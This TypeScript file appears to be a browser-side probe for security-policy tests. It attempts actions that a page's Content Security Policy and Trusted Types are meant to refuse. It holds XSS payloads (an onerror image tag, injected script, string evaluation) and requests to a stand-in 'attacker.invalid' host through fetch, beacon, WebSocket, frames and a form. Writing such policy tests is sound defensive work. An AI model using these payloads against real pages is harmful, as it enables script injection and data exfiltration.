// Runs in the page: tries what the page's policy is there to forbid, and what it has to allow.

const outside = 'https://attacker.invalid/';

/** Each returns when it has succeeded or been refused; what was refused is reported as a violation. */
const attempts: Readonly<Record<string, () => unknown>> = {
  innerHtml: () => (document.createElement('div').innerHTML = '<img src=x onerror=window.pwned=1>'),
  documentWrite: () => document.write('<script>window.pwned=1</script>'),
  evaluation: () => new Function('window.pwned=1')(),
  timerString: () => (setTimeout as (code: string) => number)('window.pwned=1'),
  inlineScript: () => append('script', { textContent: 'window.pwned=1' }),
  foreignScript: () => append('script', { src: `${outside}x.js` }),
  foreignModule: () => import(`${outside}x.mjs`),
  policy: () =>
    (
      window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => void } }
    ).trustedTypes.createPolicy('other', {}),
  fetch: () => fetch(outside),
  beacon: () => navigator.sendBeacon(outside, 'x'),
  socket: () => new WebSocket('wss://attacker.invalid/'),
  events: () => new EventSource(outside),
  worker: () => new Worker(URL.createObjectURL(new Blob(['1']))),
  image: () => append('img', { src: `${outside}x.png` }),
  frame: () => append('iframe', { src: outside }),
  object: () => append('object', { data: outside }),
  media: () => append('video', { src: `${outside}x.mp4` }),
  styleSheet: () => append('link', { rel: 'stylesheet', href: `${outside}x.css` }),
  base: () => append('base', { href: outside }),
  form: () => {
    const form = append('form', { action: outside });
    form.submit();
  },
};

function append<K extends keyof HTMLElementTagNameMap>(
  name: K,
  properties: Partial<HTMLElementTagNameMap[K]>,
): HTMLElementTagNameMap[K] {
  const made = Object.assign(document.createElement(name), properties);
  document.body.append(made);
  return made;
}

/** Makes an attempt. What it threw counts for nothing: the test looks at what has happened. */
async function attempt(name: string): Promise<void> {
  // What a debugger calls may evaluate strings whatever the policy says; a timer's callback may not.
  await new Promise((resolve) => setTimeout(resolve));
  try {
    await attempts[name]?.();
  } catch {
    return;
  }
}

/** Loads a chunk of the bundle, as lazy parts of the panel do. */
async function loadChunk(): Promise<string> {
  const { loaded } = await import('./policyProbeChunk.ts');
  return loaded;
}

const probe = { names: Object.keys(attempts), attempt, loadChunk };

export type PolicyProbe = typeof probe;

declare global {
  interface Window {
    policyProbe: PolicyProbe;
  }
}

window.policyProbe = probe;
